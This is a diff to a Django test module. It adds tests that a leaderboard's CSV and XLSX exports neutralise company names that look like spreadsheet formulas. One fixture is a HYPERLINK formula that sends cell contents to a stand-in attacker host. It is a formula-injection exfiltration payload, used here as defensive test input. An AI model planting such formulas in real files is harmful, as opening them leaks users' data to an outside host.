@@ -2,6 +2,7 @@
 
 import csv
 import io
+import zipfile
 from datetime import date, datetime
 
 import pytest
@@ -13,7 +14,7 @@ from reports.tables import TABLES
 from tests.reports.conftest import NOW
 from tests.reports.helpers import WEEK
 
-pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
+pytestmark = pytest.mark.django_db
 
 
 def _get(client, name, fmt, **params):
@@ -93,3 +94,53 @@ def test_the_page_links_to_each_export(manager_client, week):
     for name in TABLES:
         assert f'data-export="{name}-csv"' in html
         assert f'data-export="{name}-xlsx"' in html
+
+
+# A partner company's name is typed by a manager; a spreadsheet must show it, never run it.
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Open")'
+
+
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(manager_client, week):
+    # Given a partner company whose name is a spreadsheet formula
+    company = week.t2.partner_company
+    company.name = FORMULA_NAME
+    company.save(update_fields=["name"])
+
+    # When a manager exports the leaderboard as CSV
+    rows = _csv(_get(manager_client, "leaderboard", "csv", service_type=week.service_type.pk))
+
+    # Then the name is there with an apostrophe in front (text to a spreadsheet), and figures are plain
+    partner_row = next(r for r in rows if r[0] == "Zhang Min")
+    assert partner_row[1] == "'" + FORMULA_NAME
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_a_name_that_looks_like_a_formula_is_a_text_cell_in_the_xlsx(manager_client, week):
+    company = week.t2.partner_company
+    company.name = FORMULA_NAME
+    company.save(update_fields=["name"])
+
+    response = _get(manager_client, "leaderboard", "xlsx", service_type=week.service_type.pk)
+
+    # The workbook holds no formula at all, and the cell shows the name as it was typed
+    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
+        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "Zhang Min")
+    assert cell.value == FORMULA_NAME
+    assert cell.data_type == "s"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1+1"])
+def test_every_formula_start_is_neutralised_and_numbers_are_left_alone(text):
+    from core.exports import csv_bytes, xlsx_bytes
+
+    rows = list(csv.reader(io.StringIO(csv_bytes(["name", "figure"], [[text, -3.5]]).decode("utf-8-sig"))))
+    assert rows[1] == ["'" + text, "-3.5"]
+
+    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["name", "figure"], [[text, -3.5]]))).active
+    name, figure = sheet["A2"], sheet["B2"]
+    # (An XML reader turns a carriage return into a line feed.)
+    assert (name.value, name.data_type) == (text.replace("\r", "\n"), "s")
+    assert (figure.value, figure.data_type) == (-3.5, "n")
